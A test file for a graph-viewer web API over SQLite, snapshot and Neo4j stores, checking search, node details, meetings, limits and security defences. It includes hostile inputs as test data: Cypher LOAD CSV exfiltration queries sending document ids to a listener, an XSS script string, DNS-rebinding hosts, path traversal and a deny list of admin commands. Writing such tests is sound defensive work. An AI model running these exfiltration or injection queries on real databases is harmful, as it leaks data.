/** The viewer's HTTP API (src/server): on the sample page's snapshot, and /api/query on a real Neo4j. */
import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { gunzipSync } from 'node:zlib';
import { PACKAGE_ROOT } from '../src/paths.js';
import { createViewerServer, type ViewerServer } from '../src/server/app.js';
import { DEFAULT_CONSOLE_LIMITS } from '../src/server/query.js';
import type { Neo4jStore } from '../src/store/neo4j-store.js';
import type { ArticleText, GraphPayload, MeetingsPayload, Meta, TimelinePayload, NamedQueryInfo, EventDetails, OrganizationDetails, PersonDetails, QueryResponse, Suggestion } from '../src/server/protocol.js';
import type { GraphStore } from '../src/store/store.js';
import { HOSTILE_KEY, HOSTILE_NAME, sampleNeo4j, sampleEmbedded } from './viewer-fixtures.js';

const ZHANG_FEI = 'Person:张飞@许昌市';
const CLI = join(PACKAGE_ROOT, 'dist', 'src', 'cli', 'main.js');

async function get<T>(server: ViewerServer, path: string): Promise<{ status: number; body: T; headers: Headers }> {
  const res = await fetch(new URL(path, server.url));
  return { status: res.status, body: (await res.json()) as T, headers: res.headers };
}

async function post<T>(server: ViewerServer, path: string, body: unknown, contentType = 'application/json'): Promise<{ status: number; body: T }> {
  const res = await fetch(new URL(path, server.url), { method: 'POST', headers: { 'content-type': contentType }, body: typeof body === 'string' ? body : JSON.stringify(body) });
  return { status: res.status, body: (await res.json()) as T };
}

/** A raw request, for what fetch will not send (another Host header, no gzip decoding). */
function raw(server: ViewerServer, path: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, unknown>; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = request(new URL(path, server.url), { headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });
}

for (const kind of ['sqlite', 'snapshot'] as const) describe(`viewer API on the embedded ${kind === 'sqlite' ? 'store' : 'JSON Lines journal'}`, function () {
  this.timeout(60_000);
  let store: GraphStore;
  let server: ViewerServer;

  before(async () => {
    store = await sampleEmbedded(kind);
    server = await createViewerServer({ store });
  });
  after(async () => {
    await server?.close();
    await store?.close();
  });

  it('listens on 127.0.0.1 by default', () => {
    expect(server.url).to.match(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  });

  it('GET /api/meta tells the store and its counts', async () => {
    const { status, body } = await get<Meta>(server, '/api/meta');
    expect(status).to.equal(200);
    expect(body).to.include({ store: kind, cypher: false });
    expect(body.counts.Person).to.be.greaterThan(20);
    expect(body.nodes).to.equal(Object.entries(body.counts).filter(([k]) => /^[A-Z][a-z]/.test(k)).reduce((n, [, v]) => n + v, 0));
  });

  it('GET /api/graph gives every node and edge, edges by node index', async () => {
    const { body, headers } = await get<GraphPayload>(server, '/api/graph');
    expect(headers.get('access-control-allow-origin')).to.equal(null);
    const graph = await store.graph();
    expect(body.nodes.key).to.have.length(graph.order);
    expect(body.edges.source).to.have.length(graph.size);
    for (const column of [body.nodes.kind, body.nodes.label, body.nodes.date]) expect(column).to.have.length(graph.order);
    const i = body.nodes.key.indexOf(ZHANG_FEI);
    expect(body.kinds[body.nodes.kind[i]]).to.equal('Person');
    expect(body.nodes.label[i]).to.equal('张飞');
    const participations = body.edges.source.flatMap((s, e) => (s === i && body.rels[body.edges.rel[e]] === 'PARTICIPATED_IN' ? [body.nodes.key[body.edges.target[e]]] : []));
    expect(participations).to.have.members(['Event:许昌市|2023-02-17|市委政法工作会议', 'Event:许昌市|2023-02-17|全市公安工作会议']);
    expect(body.hash).to.match(/^[0-9a-f]{16}$/);
  });

  it('compresses the graph for clients that take gzip', async () => {
    const res = await raw(server, '/api/graph', { 'accept-encoding': 'gzip' });
    expect(res.headers['content-encoding']).to.equal('gzip');
    expect(gunzipSync(res.body).equals(server.view.payload().raw)).to.equal(true);
  });

  it('GET /api/search suggests persons first, by substring', async () => {
    const { body } = await get<Suggestion[]>(server, `/api/search?q=${encodeURIComponent('张飞')}`);
    expect(body[0]).to.deep.equal({ key: ZHANG_FEI, kind: 'Person', label: '张飞', detail: '许昌市' });
    const orgs = await get<Suggestion[]>(server, `/api/search?q=${encodeURIComponent('公安')}&kind=Organization`);
    expect(orgs.body.map((s) => s.label)).to.include('许昌市公安局');
    expect(orgs.body.every((s) => s.kind === 'Organization')).to.equal(true);
    expect((await get(server, '/api/search?q=x&kind=Nope')).status).to.equal(400);
    expect((await get<Suggestion[]>(server, '/api/search?q=')).body).to.deep.equal([]);
  });

  it("GET /api/node gives a person's titles, organizations, events with roles and dates, and evidence", async () => {
    const { body } = await get<PersonDetails>(server, `/api/node?key=${encodeURIComponent(ZHANG_FEI)}`);
    expect(body.kind).to.equal('Person');
    expect(body.titles.map((t) => `${t.title}@${t.organization?.label}`)).to.include.members(['副市长@许昌市人民政府', '局长@许昌市公安局']);
    expect(body.organizations.map((o) => o.label)).to.have.members(['许昌市公安局', '许昌市人民政府']);
    expect(body.events.map((e) => e.event.label)).to.have.members(['市委政法工作会议', '全市公安工作会议']);
    for (const e of body.events) {
      expect(e.date).to.equal('2023-02-17');
      expect(e.roles).to.include('attended');
      expect(e.evidence.sentence).to.include('张飞');
      expect(e.evidence.mention).to.equal('张飞');
      expect(e.evidence.headline).to.be.a('string').and.include('会议');
    }
    expect(body.evidence.map((e) => e.headline)).to.include.members(['全市公安工作会议召开', '市委政法工作会议召开']);
  });

  it("GET /api/node gives an event's participants by role and an organization's members with its sub-organizations'", async () => {
    const event = await get<EventDetails>(server, `/api/node?key=${encodeURIComponent('Event:许昌市|2023-02-17|全市公安工作会议')}`);
    expect(event.body.participants.spoke.map((p) => p.person.label)).to.include('张飞');
    const org = await get<OrganizationDetails>(server, `/api/node?key=${encodeURIComponent('Organization:中共许昌市委')}`);
    expect(org.body.children.map((c) => c.label)).to.include('许昌市委宣传部');
    expect(org.body.members.map((m) => `${m.person.label} ${m.title} ${m.organization.label}`)).to.include('王自合 部长 许昌市委宣传部');
  });

  it('GET /api/node: 400 without a key, 404 for an unknown one', async () => {
    expect((await get(server, '/api/node')).status).to.equal(400);
    const missing = await get<{ error: string }>(server, '/api/node?key=Person:nobody');
    expect(missing.status).to.equal(404);
    expect(missing.body.error).to.include('Person:nobody');
  });

  it('returns article text as JSON data, unchanged', async () => {
    const { body } = await get<PersonDetails>(server, `/api/node?key=${encodeURIComponent(HOSTILE_KEY)}`);
    expect(body.label).to.equal(HOSTILE_NAME);
    expect(body.evidence[0].sentence).to.include('<script>');
    expect(body.evidence[0].mention).to.equal('<script>window.__xss=3</script>');
  });

  it('GET /api/meetings: who met whom at the sample page’s events, around a person, and a bad range refused', async () => {
    const all = await get<MeetingsPayload>(server, '/api/meetings');
    expect(all.status).to.equal(200);
    // The newest month of events: the sample page's February 2023.
    expect(all.body.period).to.deep.equal({ from: '2023-01-20', to: '2023-02-19' });
    const label = (i: number) => all.body.persons[i].label;
    const pairs = all.body.pairs.map((p) => [label(p.a), label(p.b)].sort().join('-'));
    expect(pairs).to.include.members(['吾尔叶提·吾守尔-李红霞', '张飞-汤超']);
    const led = all.body.pairs.find((p) => [label(p.a), label(p.b)].includes('吾尔叶提·吾守尔') && [label(p.a), label(p.b)].includes('李红霞'))!;
    expect(led.events[0].label).to.equal('哈密市考察团来许考察');
    expect(led.roles.flatMap((r) => Object.keys(r)).sort()).to.deep.equal(['accompanied', 'led']);
    const around = await get<MeetingsPayload>(server, `/api/meetings?person=${encodeURIComponent('Person:张飞@许昌市')}&limit=3`);
    expect(around.body.persons.map((p) => p.label)[0]).to.equal('张飞');
    expect(around.body.persons).to.have.length(3);
    const day = await get<MeetingsPayload>(server, '/api/meetings?from=2023-02-18&to=2023-02-18');
    expect(day.body.persons.map((p) => p.label)).to.not.include('张飞');
    const impossible = await get<{ error: string }>(server, '/api/meetings?from=2023-02-30');
    expect([impossible.status, impossible.body.error]).to.deep.equal([400, '2023-02-30: 2023-02 has no day 30']);
    const inverted = await get<{ error: string }>(server, '/api/meetings?from=2023-03-01&to=2023-02-01');
    expect(inverted.status).to.equal(400);
    expect(inverted.body.error).to.match(/ends \(2023-02-01\) before it starts/);
    expect((await get(server, '/api/meetings?limit=0')).status).to.equal(400);
  });

  it("GET /api/article gives an article's text, in which its evidence lies", async () => {
    const { body } = await get<PersonDetails>(server, `/api/node?key=${encodeURIComponent('Person:张飞@许昌市')}`);
    const e = body.evidence[0];
    const article = await get<ArticleText>(server, `/api/article?id=${encodeURIComponent(e.article)}`);
    expect(article.status).to.equal(200);
    expect(article.body.text).to.include(e.sentence);
    expect((await get<ArticleText>(server, '/api/article?id=nothing')).body.text).to.equal(null);
    expect((await get(server, '/api/article')).status).to.equal(400);
  });

  it('GET /api/timeline counts events by day', async () => {
    const { body } = await get<TimelinePayload>(server, '/api/timeline');
    expect(body.days.map(([d]) => d)).to.include('2023-02-17');
    expect(body.days.reduce((n, [, c]) => n + c, 0) + body.coarse + body.undated).to.equal((await get<Meta>(server, '/api/meta')).body.counts.Event);
  });

  it('GET /api/queries lists the named queries with their parameters', async () => {
    const { body } = await get<NamedQueryInfo[]>(server, '/api/queries');
    expect(body.find((q) => q.name === 'events-of-person')?.params).to.deep.equal([{ name: 'name', optional: false }]);
  });

  it('POST /api/query runs a named query on the snapshot', async () => {
    const { status, body } = await post<QueryResponse>(server, '/api/query', { name: 'events-of-person', params: { name: '张飞' } });
    expect(status).to.equal(200);
    expect(body.rows.map((r) => r.event)).to.have.members(['市委政法工作会议', '全市公安工作会议']);
    expect(body.graph.nodes).to.include(ZHANG_FEI); // drawn from the rows' ids (tests/named-query-graph.test.ts)
    const missing = await post<{ error: string }>(server, '/api/query', { name: 'events-of-person', params: {} });
    expect(missing.status).to.equal(400);
    expect(missing.body.error).to.include('name');
    expect((await post(server, '/api/query', { name: 'no-such-query' })).status).to.equal(404);
  });

  it('POST /api/query answers ad-hoc Cypher on the snapshot with 501 and what to do', async () => {
    const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher: 'MATCH (n) RETURN n' });
    expect(status).to.equal(501);
    expect(body.error).to.match(/Cypher needs Neo4j.*--neo4j/);
  });

  it('refuses bad bodies: not JSON (400), not application/json (415), over 1 MB (413)', async () => {
    expect((await post(server, '/api/query', '{oops')).status).to.equal(400);
    expect((await post(server, '/api/query', { name: 'x' }, 'text/plain')).status).to.equal(415);
    const big = await post<{ error: string }>(server, '/api/query', { cypher: 'x'.repeat(1024 * 1024 + 10) });
    expect(big.status).to.equal(413);
  });

  it('answers unknown routes 404 and wrong methods 405, as JSON', async () => {
    expect((await get(server, '/api/nope')).status).to.equal(404);
    const res = await fetch(new URL('/api/meta', server.url), { method: 'DELETE' });
    expect(res.status).to.equal(405);
    expect(((await res.json()) as { error: string }).error).to.include('DELETE');
  });

  it('refuses requests naming another host (DNS rebinding)', async () => {
    const res = await raw(server, '/api/meta', { host: 'evil.example:80' });
    expect(res.status).to.equal(403);
  });

  it('answers only an exact loopback Host with its port', async () => {
    const port = new URL(server.url).port;
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`, `[::1]:${port}`]) expect((await raw(server, '/api/meta', { host })).status, host).to.equal(200);
    for (const host of [`127.evil.example:${port}`, '127.0.0.1.nip.io', `127.1.2.3.evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1:${Number(port) + 1}`, '127.0.0.1', 'localhost']) {
      expect((await raw(server, '/api/meta', { host })).status, host).to.equal(403);
    }
  });

  it('refuses cross-origin requests', async () => {
    const port = new URL(server.url).port;
    const origin = (o: string) => raw(server, '/api/meta', { origin: o });
    expect((await origin(`http://127.0.0.1:${port}`)).status).to.equal(200);
    for (const o of ['http://evil.example', 'null', `http://localhost:${port}`, `https://127.0.0.1:${port}`]) expect((await origin(o)).status, o).to.equal(403);
    const res = await fetch(new URL('/api/query', server.url), {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: 'http://evil.example' },
      body: JSON.stringify({ name: 'events-of-person', params: { name: '张飞' } }),
    });
    expect(res.status).to.equal(403);
  });

  it('answers bad parameters with 400 and a short message, never 500', async () => {
    for (const path of ['/%E0%A4%A', '/app.js%', '/api/search?q=a&q=b', '/api/search?q[a]=b', '/api/search?q=a&limit=-1', '/api/search?q=a&limit=abc', '/api/search?q=a&limit=1e9', '/api/node?key=a&key=b', '/api/meta?x=1']) {
      const res = await raw(server, path, {});
      expect(res.status, path).to.equal(400);
      const { error } = JSON.parse(res.body.toString('utf8')) as { error: string };
      expect(error, path).to.be.a('string').and.not.match(/\n|    at /);
      expect(error.length, path).to.be.below(120);
    }
    expect((await get<Suggestion[]>(server, `/api/search?q=${encodeURIComponent('许昌')}&limit=2`)).body).to.have.length(2);
  });

  it('serves the viewer with a content security policy, and nothing outside it', async () => {
    const page = await fetch(server.url);
    expect(page.status).to.equal(200);
    expect(page.headers.get('content-security-policy')).to.include("script-src 'self'");
    expect(await page.text()).to.include('<div id="graph"');
    expect((await fetch(new URL('/app.js', server.url))).headers.get('content-type')).to.include('javascript');
    const escape = await raw(server, '/%2e%2e/%2e%2e/package.json', {});
    expect(escape.status).to.equal(404);
  });
});

describe('a running viewer follows the store', function () {
  this.timeout(120_000);

  for (const kind of ['sqlite', 'snapshot'] as const) {
    it(`shows what a later ingest adds, without a restart (${kind})`, async () => {
      const store = await sampleEmbedded(kind);
      const server = await createViewerServer({ store });
      try {
        const before = (await get<Meta>(server, '/api/meta')).body;
        const found = async () => (await get<Suggestion[]>(server, `/api/search?q=${encodeURIComponent('欧阳明远')}`)).body;
        expect(await found()).to.deep.equal([]);
        // Another process's ingest, as `guanxi ingest` beside `guanxi serve`.
        const dir = mkdtempSync(join(tmpdir(), 'guanxi-live-'));
        const file = join(dir, 'later.jsonl');
        writeFileSync(file, JSON.stringify({ title: '市长调研', date: '2023-03-02', text: '3月1日，许昌市市长欧阳明远到建安区调研农业生产。' }) + '\n');
        const r = spawnSync(process.execPath, [CLI, 'ingest', '--snapshot', store.location, file], { encoding: 'utf8', env: { ...process.env, NEO4J_URI: '' } });
        expect(r.status, r.stderr).to.equal(0);
        // The server looks at the store's change marker at most once a second.
        await new Promise((resolve) => setTimeout(resolve, 1100));
        const after = (await get<Meta>(server, '/api/meta')).body;
        expect(after.changes).to.not.equal(before.changes);
        expect(after.counts.Article).to.equal(before.counts.Article + 1);
        expect((await found()).map((s) => s.key)).to.include('Person:欧阳明远@许昌市');
        const graph = (await get<GraphPayload>(server, '/api/graph')).body;
        expect(graph.nodes.key).to.include('Person:欧阳明远@许昌市');
      } finally {
        await server.close();
        await store.close();
      }
    });
  }

  for (const kind of ['sqlite', 'snapshot'] as const) it(`sends the most connected nodes of a graph larger than the overview, and says so (${kind})`, async () => {
    const store = await sampleEmbedded(kind);
    const server = await createViewerServer({ store, overviewNodes: 40 });
    try {
      const meta = (await get<Meta>(server, '/api/meta')).body;
      const graph = (await get<GraphPayload>(server, '/api/graph')).body;
      expect(meta.nodes).to.be.greaterThan(40);
      expect(meta.overview).to.equal(40);
      expect(graph.nodes.key).to.have.length(40);
      const whole = await store.graph();
      const degrees = whole.nodes().map((k) => whole.degree(k)).sort((a, b) => b - a);
      const least = Math.min(...graph.nodes.key.map((k) => whole.degree(k)));
      expect(least, 'no node left out is more connected than one sent').to.equal(degrees[39]);
      // Every pair of them that the graph links, and each once per type.
      const inside = new Set(graph.nodes.key);
      const pairs = new Set(whole.filterEdges((_e, _a, s, t) => inside.has(s) && inside.has(t)).map((e) => `${whole.source(e)} ${whole.target(e)} ${whole.getEdgeAttribute(e, 'rel')}`));
      const sent = graph.edges.source.map((s, i) => `${graph.nodes.key[s]} ${graph.nodes.key[graph.edges.target[i]]} ${graph.rels[graph.edges.rel[i]]}`);
      expect(sent).to.have.length(pairs.size);
      expect(new Set(sent)).to.deep.equal(pairs);
    } finally {
      await server.close();
      await store.close();
    }
  });
});

describe('viewer API on Neo4j', function () {
  this.timeout(180_000);
  let store: Neo4jStore;
  let server: ViewerServer;

  before(async () => {
    store = await sampleNeo4j();
    server = await createViewerServer({ store });
  });
  after(async () => {
    await server?.close();
    await store?.close();
  });

  /** The transactions running a statement that holds `marker`. */
  async function running(marker: string): Promise<string[]> {
    const r = await store.client.query(
      'SHOW TRANSACTIONS YIELD transactionId, currentQuery WHERE currentQuery CONTAINS $marker AND NOT currentQuery CONTAINS "SHOW" RETURN transactionId',
      { marker },
      true,
    );
    return r.rows.map((row) => String(row.transactionId));
  }

  /** A statement that keeps Neo4j busy for minutes unless stopped. */
  const SLOW = (marker: string) => `UNWIND range(1, 5000000000) AS x WITH x WHERE x = -1 RETURN count(x) AS n // ${marker}`;

  it('lets no console query make the server fetch a URL (exfiltration to a listener on 127.0.0.1)', async () => {
    const hits: string[] = [];
    const listener = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('a,b\n');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    try {
      for (const cypher of [
        `LOAD CSV FROM '${url}/leak' AS row RETURN row`,
        `MATCH (d:Document) WITH collect(d.id) AS ids LOAD CSV FROM '${url}/leak?' + ids[0] AS row RETURN row`,
        `load csv with headers from '${url}/leak' as row return row`,
        `CALL { LOAD/**/CSV FROM '${url}/leak' AS row RETURN row } RETURN row`,
      ]) {
        const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher });
        expect(status, cypher).to.equal(403);
        expect(body.error).to.match(/not allowed/);
      }
      // Behind the console's allow-list, Neo4j itself (as scripts/neo4j.mjs configures it) fetches nothing from loopback.
      let refused: Error | undefined;
      await store.client.query(`LOAD CSV FROM '${url}/direct' AS row RETURN row`).catch((err: Error) => (refused = err));
      expect(refused?.message).to.match(/blocked|not allowed|blocklist/i);
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(hits).to.deep.equal([]);
    } finally {
      listener.close();
    }
  });

  it('refuses administration and procedures outside the allow-list, and runs those in it', async () => {
    for (const cypher of ['SHOW USERS', 'SHOW SETTINGS', 'CALL dbms.listConfig()', 'CALL dbms.listConnections()', 'CALL db.clearQueryCaches()', "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", 'USE system SHOW DATABASES']) {
      const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher });
      expect(status, cypher).to.equal(403);
      expect(body.error, cypher).to.match(/not allowed/);
    }
    const labels = await post<QueryResponse>(server, '/api/query', { cypher: 'CALL db.labels() YIELD label RETURN label ORDER BY label' });
    expect(labels.status).to.equal(200);
    expect(labels.body.rows.map((r) => r.label)).to.include('Person');
  });

  it('sends at most its row and byte limits, saying so', async () => {
    const limited = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, maxRows: 100 } });
    try {
      const { status, body } = await post<QueryResponse>(limited, '/api/query', { cypher: 'UNWIND range(1, 1000000) AS x RETURN x' });
      expect(status).to.equal(200);
      expect(body.rows).to.have.length(100);
      expect(body.rows[99]).to.deep.equal({ x: 100 });
      expect(body.truncated).to.equal(true);
      const few = await post<QueryResponse>(limited, '/api/query', { cypher: 'UNWIND range(1, 100) AS x RETURN x' });
      expect(few.body.truncated).to.equal(false);
    } finally {
      await limited.close();
    }
    // Wide rows are cut by their size as well.
    const narrow = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, maxBytes: 10_000 } });
    try {
      const { body } = await post<QueryResponse>(narrow, '/api/query', { cypher: "UNWIND range(1, 1000) AS x RETURN x, reduce(s = '', i IN range(1, 100) | s + 'x') AS wide" });
      expect(body.truncated).to.equal(true);
      expect(body.rows.length).to.be.within(50, 120);
    } finally {
      await narrow.close();
    }
  });

  it('stops a query at its time limit, in Neo4j too', async function () {
    this.timeout(20_000);
    const limited = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, timeoutMs: 1000 } });
    try {
      const { status, body } = await post<{ error: string }>(limited, '/api/query', { cypher: SLOW('time-limit') });
      expect(status).to.equal(504);
      expect(body.error).to.match(/ran over 1 s/);
      expect(await running('time-limit')).to.deep.equal([]);
    } finally {
      await limited.close();
    }
  });

  it('cancels the query in Neo4j when its client goes away, as no fault of the server', async function () {
    this.timeout(30_000);
    const faults: Error[] = [];
    const watched = await createViewerServer({ store, onError: (err) => faults.push(err) });
    const controller = new AbortController();
    const request = fetch(new URL('/api/query', watched.url), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ cypher: SLOW('client-gone') }),
      signal: controller.signal,
    }).catch(() => null);
    try {
      while ((await running('client-gone')).length === 0) await new Promise((resolve) => setTimeout(resolve, 100));
      controller.abort();
      await request;
      const deadline = Date.now() + 5000;
      while ((await running('client-gone')).length && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
      expect(await running('client-gone')).to.deep.equal([]);
      expect(faults).to.deep.equal([]);
    } finally {
      await watched.close();
      const left = await running('client-gone');
      if (left.length) await store.client.query('TERMINATE TRANSACTIONS $ids', { ids: left }, true);
    }
  });

  it('reads the same graph as the snapshot', async () => {
    const snapshot = await sampleEmbedded();
    const expected = (await snapshot.graph()).order - 2; // the snapshot also holds the hostile document's two nodes
    const { body } = await get<Meta>(server, '/api/meta');
    expect(body).to.include({ store: 'neo4j', cypher: true, nodes: expected });
  });

  it('runs read-only Cypher and gives the nodes and relationships of the rows as graph keys', async () => {
    const { status, body } = await post<QueryResponse>(server, '/api/query', {
      cypher: 'MATCH (p:Person {name: $name})-[r:PARTICIPATED_IN]->(e:Event) RETURN p, r, e ORDER BY e.name',
      params: { name: '张飞' },
    });
    expect(status).to.equal(200);
    expect(body.columns).to.deep.equal(['p', 'r', 'e']);
    expect(body.rows).to.have.length(2);
    expect(body.graph.nodes).to.include.members([ZHANG_FEI, 'Event:许昌市|2023-02-17|全市公安工作会议']);
    expect(body.graph.edges).to.deep.include([ZHANG_FEI, 'Event:许昌市|2023-02-17|全市公安工作会议']);
  });

  it('refuses a write with 403 and says the console is read-only', async () => {
    const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher: "CREATE (:Person {id: 'x@?', name: 'x'})" });
    expect(status).to.equal(403);
    expect(body.error).to.include('read-only');
    const count = await post<QueryResponse>(server, '/api/query', { cypher: "MATCH (p:Person {id: 'x@?'}) RETURN count(p) AS n" });
    expect(count.body.rows[0].n).to.equal(0);
  });

  it('answers a Cypher syntax error with 400 and the message of Neo4j', async () => {
    const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher: 'MATCH (n RETURN n' });
    expect(status).to.equal(400);
    expect(body.error).to.match(/invalid input|syntax/i);
  });

  it('runs named queries on Neo4j too', async () => {
    const { body } = await post<QueryResponse>(server, '/api/query', { name: 'events-of-person', params: { name: '张飞' } });
    expect(body.rows).to.have.length(2);
  });
});
